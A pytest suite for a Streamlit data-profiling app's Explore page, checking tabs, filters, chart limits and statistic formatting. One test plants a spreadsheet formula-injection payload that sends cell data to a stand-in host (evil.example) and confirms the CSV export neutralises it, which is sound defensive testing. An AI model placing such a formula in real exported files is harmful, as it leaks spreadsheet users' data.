"""The Explore page through AppTest: every bundled dataset, awkward tables, filters, limits on chart data."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from streamlit.testing.v1 import AppTest

from pipeline.data.bundled import BUNDLED
from pipeline.data.catalog import Catalog
from pipeline.data.io import Source
from pipeline.data.loading import load_bundled, load_file, load_synthetic
from pipeline.engines import available_engines
from pipeline.profile.interactions import Filter
from pipeline.render.charts import MAX_CHART_ROWS
from pipeline.tables.synthetic import SyntheticSpec
from tests.support.apptest import APP, TIMEOUT, open_page, problems, run_with_selection
from tests.support.public_tables import load_public


def chart_rows(at: AppTest) -> list[int]:
    """Rows of data each drawn chart sends to the browser (Arrow datasets plus inline values)."""
    import json

    counts = []
    for chart in at.get("vega_lite_chart"):
        proto = chart.proto
        rows = sum(pa.ipc.open_stream(io.BytesIO(d.data.data)).read_all().num_rows for d in proto.datasets)
        rows += len(json.loads(proto.spec).get("data", {}).get("values", []))
        counts.append(rows)
    return counts


def explore(catalog: Catalog | None = None) -> AppTest:
    return open_page("pages/explore.py", catalog)


def open_tab(at: AppTest, label: str) -> AppTest:
    """Select a tab; only the open tab's content runs."""
    at.session_state["explore_tab"] = label
    return at.run()


def with_dataset(loader, *args, **kwargs) -> Catalog:
    catalog = Catalog()
    loader(catalog, *args, available_engines(), **kwargs)
    return catalog


@pytest.mark.parametrize("name", list(BUNDLED))
def test_every_bundled_dataset_is_explored(name):
    at = explore(with_dataset(load_bundled, name))
    assert not problems(at)
    labels = [t.label for t in at.tabs]
    assert labels == ["Overview", "Columns", "Correlations", "Missing values", "Interactions", "Filter"]
    assert any("Profiled on" in c.value for c in at.caption)
    assert at.metric[0].value == f"{at.session_state['catalog'].active.shape[0]:,}"
    for label in labels:
        open_tab(at, label)
        assert not problems(at), label
        assert len(at.get("vega_lite_chart")) or len(at.info) or len(at.success), f"{label}: a chart or why not"


def test_columns_tab_switches_column_and_interactions_switch_view():
    at = open_tab(explore(), "Columns")
    at.selectbox(key="explore_column").set_value("target").run()
    assert not problems(at)
    assert any("text · dtype" in c.value for c in at.caption)
    open_tab(at, "Interactions").radio(key="pair_view_0").set_value("binned heatmap").run()
    assert any("binned on CPU (pandas)" in c.value for c in at.caption)
    open_tab(at, "Correlations").radio(key="explore_corr_method").set_value("spearman").run()
    assert len(at.get("vega_lite_chart")) == 1
    at.radio(key="explore_preset").set_value("minimal").run()
    assert not problems(at)
    assert any("not computed (minimal profile)" in i.value for i in at.info)


def test_no_dataset_points_to_the_data_page():
    at = explore(Catalog())
    assert not problems(at)
    assert any("No dataset loaded" in i.value for i in at.info)


def test_awkward_upload_is_explained_not_crashed():
    table = pd.DataFrame(
        {
            "empty": [None, None, None],
            "mixed_tz": pd.to_datetime(["2024-01-01", None, "2024-02-01"]).tz_localize("Asia/Tokyo"),
            "text": ["a", "b", "a"],
            "inf": [np.inf, 1.0, np.nan],
        }
    )
    buffer = io.BytesIO()
    table.to_parquet(buffer)
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("awkward.parquet", buffer.getvalue()), available_engines())
    at = explore(catalog)
    assert not problems(at)
    warnings = " ".join(w.value for w in at.warning)
    assert "'empty' has no values" in warnings and "infinite" in warnings


def test_filters_are_applied_and_cleared():
    catalog = with_dataset(load_bundled, "iris")
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.session_state["catalog"] = catalog
    at.session_state[f"explore_filters_{catalog.active_id}"] = {
        "sepal length (cm)": Filter("sepal length (cm)", low=5.0, high=6.0)
    }
    at.run()
    at.switch_page("pages/explore.py").run()
    frame = catalog.active.primary.frame
    passing = int(frame["sepal length (cm)"].between(5.0, 6.0).sum())
    open_tab(at, "Interactions")
    assert any(f"{passing:,} of 150 rows" in c.value for c in at.caption), "interactions follow the filters"
    open_tab(at, "Filter")
    assert any(f"{passing:,} of 150 rows" in m.value for m in at.markdown)
    assert any("5 ≤ sepal length (cm) ≤ 6" in c.value for c in at.caption)
    at.button(key="filter_clear").click().run()
    assert any("150 of 150 rows" in m.value for m in at.markdown)


def test_the_filtered_rows_become_a_dataset_or_a_pipeline_step():
    catalog = with_dataset(load_bundled, "iris")
    iris = catalog.active
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.session_state["catalog"] = catalog
    at.session_state[f"explore_filters_{iris.id}"] = {
        "sepal length (cm)": Filter("sepal length (cm)", low=5.0, high=6.0),
        "target": Filter("target", values=("setosa",)),
    }
    at.run()
    at.switch_page("pages/explore.py").run()
    open_tab(at, "Filter")
    at.button(key="filter_step").click().run()
    assert not problems(at)
    steps = at.session_state["pipeline_steps"]
    assert [s.kind for s in steps] == ["filter"] and len(steps[0].params["conditions"]) == 3
    at.button(key="filter_keep").click().run()
    assert not problems(at)
    kept = catalog.active
    frame = iris.primary.frame
    expected = frame[frame["sepal length (cm)"].between(5.0, 6.0) & (frame["target"] == "setosa")]
    assert kept.name == "iris (filtered)" and kept.shape == (len(expected), 5)
    assert "setosa" in kept.source


def test_large_table_waits_for_the_button_and_charts_stay_small():
    catalog = with_dataset(load_synthetic, SyntheticSpec("mixed", rows=1_100_000))
    at = explore(catalog)
    assert not problems(at)
    assert catalog.active.recall(("profile", at.selectbox(key="explore_engine").value, "full")) is None
    assert any("Large table" in i.value for i in at.info)
    at.button(key="profile_go").click().run()
    assert not problems(at)
    assert any("Profiled on" in c.value for c in at.caption)
    rows, captions = [], []
    for label in ["Overview", "Columns", "Correlations", "Missing values", "Interactions", "Filter"]:
        open_tab(at, label)
        assert not problems(at), label
        rows += chart_rows(at)
        captions += [c.value for c in at.caption]
    assert any("1,100,000 rows binned on" in c for c in captions)
    assert len(rows) >= 8 and max(rows) <= MAX_CHART_ROWS


def test_compare_engines_needs_two_engines():
    at = explore()
    toggle = at.toggle(key="explore_compare")
    if len(available_engines()) == 1:
        assert toggle.disabled
    else:
        toggle.set_value(True).run()
        assert any("statistics agree" in s.value for s in at.success)


def test_the_columns_table_shows_missing_percentages_as_they_are():
    """The summary holds percentages (0–100); the progress column must print them, not multiply them by 100."""
    import json

    at = explore()
    summary = next(d for d in at.dataframe if "missing %" in d.value.columns)
    assert summary.value["missing %"].between(0, 100).all()
    config = json.loads(summary.proto.columns)["missing %"]
    assert config["type_config"]["max_value"] == 100
    assert config["type_config"]["format"] == "%.1f%%", "printf: 3.0 shows as 3.0 %, not 300 %"


def test_interactions_open_on_the_most_correlated_pair_without_ids_or_free_text():
    rows = 60
    rng = np.random.default_rng(2)
    x = rng.normal(size=rows)
    table = pd.DataFrame(
        {
            "id": np.arange(rows),
            "note": [f"free text {i}" for i in range(rows)],
            "noise": rng.normal(size=rows),
            "price": x * 3 + rng.normal(size=rows) * 0.01,
            "size": x,
        }
    )
    buffer = io.BytesIO()
    table.to_parquet(buffer)
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("shop.parquet", buffer.getvalue()), available_engines())
    at = open_tab(explore(catalog), "Interactions")
    assert not problems(at)
    dataset_id = catalog.active_id
    x_box, y_box = at.selectbox(key=f"pair_x_{dataset_id}"), at.selectbox(key=f"pair_y_{dataset_id}")
    assert {x_box.value, y_box.value} == {"price", "size"}, "the strongest pair first"
    assert "id" not in x_box.options and "note" not in x_box.options
    assert any("Not offered here" in c.value and "'id'" in c.value for c in at.caption)


def test_category_columns_get_cramers_v_on_the_correlations_tab():
    rng = np.random.default_rng(4)
    colour = rng.choice(["red", "green"], 80)
    table = pd.DataFrame(
        {
            "colour": colour,
            "size": np.where(colour == "red", "S", "L"),
            "x": rng.normal(size=80),
            "y": rng.normal(size=80),
        }
    )
    buffer = io.BytesIO()
    table.to_parquet(buffer)
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("cats.parquet", buffer.getvalue()), available_engines())
    at = open_tab(explore(catalog), "Correlations")
    method = at.radio(key="explore_corr_method")
    assert "cramers_v" in method.options or "Cramér's V (categories)" in method.options
    method.set_value("cramers_v").run()
    assert not problems(at)
    pairs = next(d.value for d in at.dataframe if "V" in d.value.columns)
    assert pairs.iloc[0][["row", "column"]].tolist() == ["colour", "size"] and pairs.iloc[0]["V"] == 1.0
    spec = json.loads(next(c.proto.spec for c in at.get("vega_lite_chart") if '"field": "V"' in c.proto.spec))
    colour = next(layer["encoding"]["color"] for layer in spec["layer"] if layer["encoding"]["color"].get("scale"))
    assert colour["scale"]["domain"] == [0, 1] and colour["title"] == "V"
    assert any("Bergsma" in c.value for c in at.caption)


def test_a_text_column_shows_its_most_frequent_words_when_asked():
    table = pd.DataFrame({"review": ["good coffee", "bad coffee", "good tea", None], "stars": [5, 1, 4, 3]})
    buffer = io.BytesIO()
    table.to_parquet(buffer)
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("reviews.parquet", buffer.getvalue()), available_engines())
    at = open_tab(explore(catalog), "Columns")
    at.selectbox(key="explore_column").set_value("review").run()
    at.toggle(key=f"words_{catalog.active_id}_review").set_value(True).run()
    assert not problems(at)
    assert any("most frequent words in review" in c.proto.spec for c in at.get("vega_lite_chart"))
    words = catalog.active.recall(("words", at.selectbox(key="explore_engine").value, "review"))
    assert words.to_dict("records")[:2] == [{"word": "coffee", "count": 2}, {"word": "good", "count": 2}]


def test_a_number_by_a_category_opens_as_box_plots():
    at = open_tab(explore(), "Interactions")
    dataset_id = at.session_state["catalog"].active_id
    assert at.radio(key="pair_view_0").value == "scatter", "two numbers: a scatter"
    at.selectbox(key=f"pair_x_{dataset_id}").set_value("target").run()
    at.selectbox(key=f"pair_y_{dataset_id}").set_value("petal length (cm)").run()
    assert at.radio(key="pair_view_2").value == "box plot"
    assert not problems(at)
    assert any(
        "Quartiles of petal length (cm) within the 3 most frequent values of target" in c.value for c in at.caption
    )


@pytest.mark.parametrize(("name", "column"), [("cars", "Origin"), ("seattle-weather", "weather")])
def test_the_filter_tab_starts_on_a_column_of_few_values(name, column):
    catalog = Catalog()
    load_public(catalog, name)
    at = open_tab(explore(catalog), "Filter")
    assert not problems(at)
    assert at.multiselect(key=f"filter_columns_{catalog.active_id}").value == [column]


def test_a_kept_filter_does_not_linger_on_the_dataset_made_from_it():
    catalog = with_dataset(load_bundled, "iris")
    iris = catalog.active
    at = open_tab(explore(catalog), "Filter")
    assert at.multiselect(key=f"filter_columns_{iris.id}").value == ["target"]
    at.multiselect(key=f"filter_columns_{iris.id}").set_value(["petal width (cm)"]).run()
    chart, brushed = f"filter_chart_{iris.id}_pick_3_0", {"start": [0.1, 0.3]}
    run_with_selection(at, chart, "pick_3", brushed)
    assert at.session_state[f"explore_filters_{iris.id}"] == {
        "petal width (cm)": Filter("petal width (cm)", low=0.1, high=0.3)
    }
    at.button(key="filter_keep").click()
    run_with_selection(at, chart, "pick_3", brushed)  # the browser still holds the brush as the page changes
    kept = catalog.active
    assert kept.name == "iris (filtered)"
    assert at.multiselect(key=f"filter_columns_{kept.id}").value == ["petal width (cm)"], "few values: it opens there"
    assert not problems(at)
    assert at.session_state.get(f"explore_filters_{kept.id}", {}) == {}, "the brush stays with iris"
    assert any(f"{kept.shape[0]} of {kept.shape[0]} rows" in m.value for m in at.markdown)
    assert not any(b.key == "filter_keep" for b in at.button)


def test_a_chart_csv_opens_as_data_in_a_spreadsheet(downloads):
    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    table = pd.DataFrame({"link": [link, link, link, "@SUM(1+1)", "@SUM(1+1)", "plain"], "amount": range(-3, 3)})
    buffer = io.BytesIO()
    table.to_parquet(buffer)
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("links.parquet", buffer.getvalue()), available_engines())
    at = open_tab(explore(catalog), "Columns")
    assert not problems(at)
    assert at.selectbox(key="explore_column").value == "link"
    rows = list(csv.reader(io.StringIO(downloads.data(at, "col_0_top_csv").decode(), newline="")))
    values = [row[0] for row in rows[1:]]
    assert values[:2] == ["'" + link, "'@SUM(1+1)"] and "plain" in values, "formulas are written as text"
    at.selectbox(key="explore_column").set_value("amount").run()
    rows = list(csv.reader(io.StringIO(downloads.data(at, "col_1_hist_csv").decode(), newline="")))
    assert rows[1][0].startswith("-3"), "numbers stay numbers, minus sign and all"


def test_statistics_and_pairs_read_as_people_write_them():
    """vega_datasets' cars: years from 1970 to 1982, a miles-per-gallon column with gaps."""
    rng = np.random.default_rng(3)
    table = pd.DataFrame(
        {
            "Year": pd.to_datetime([f"{1970 + i % 13}-01-01" for i in range(120)]),
            "Miles_per_Gallon": np.where(rng.random(120) < 0.1, np.nan, rng.normal(23.5, 7.8, 120)),
            "Weight_in_lbs": rng.normal(2970, 847, 120),
        }
    )
    buffer = io.BytesIO()
    table.to_parquet(buffer)
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("cars.parquet", buffer.getvalue()), available_engines())
    at = open_tab(explore(catalog), "Columns")
    at.selectbox(key="explore_column").set_value("Year").run()
    stats = next(d.value for d in at.dataframe if "statistic" in d.value.columns)
    values = dict(zip(stats["statistic"], stats["value"], strict=True))
    assert values["range"] == "12.0 years (4,383 days)"
    at = open_tab(at, "Correlations")
    pairs = next(d.value for d in at.dataframe if "r" in d.value.columns)
    assert all(r == float(f"{r:.4g}") for r in pairs["r"]), f"four significant digits: {pairs['r'].tolist()}"


def test_the_columns_table_rounds_its_headline_numbers_to_four_significant_digits():
    """cars: the overview's means read 23.51 and 2,979, not 23.5146 and 2,979.41; the year column its mean date."""
    catalog = Catalog()
    load_public(catalog, "cars")
    at = explore(catalog)
    summary = next(d.value for d in at.dataframe if "missing %" in d.value.columns).set_index("column")
    headline = summary["mean / top value"]
    assert (headline["Miles_per_Gallon"], headline["Weight_in_lbs"]) == ("23.51", "2,979")
    assert headline["Year"] == "1975-12-31"
